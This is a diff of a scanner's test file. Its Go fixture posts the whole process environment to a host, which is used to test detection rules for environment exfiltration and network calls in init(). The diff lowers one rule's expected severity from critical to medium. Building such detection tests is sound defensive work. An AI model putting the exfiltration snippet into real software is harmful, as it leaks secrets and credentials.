@@ -19,7 +19,7 @@ const ENVIRON = 'http.Post(where(), "text/plain", strings.NewReader(strings.Join
 
 test('MW-EXFIL-ENV: the whole environment that goes to a host of the module where no setting names another', () => {
   assert.deepEqual(said(`${FAR}func Open() { ${ENVIRON} }`), ['MW-EXFIL-ENV high'])
-  assert.deepEqual(said(`${FAR}func init() { ${ENVIRON} }`), ['MW-EXFIL-ENV critical', 'MW-INIT-NET critical'])
+  assert.deepEqual(said(`${FAR}func init() { ${ENVIRON} }`), ['MW-EXFIL-ENV critical', 'MW-INIT-NET medium'])
   const given = `type Options struct{ URL string }\nfunc Open(o Options) { if o.URL == "" { o.URL = "https://stats.example.com/v1" }; ${ENVIRON.replace('where()', 'o.URL')} }`
   assert.deepEqual(said(given), ['MW-EXFIL-ENV high'])
 })
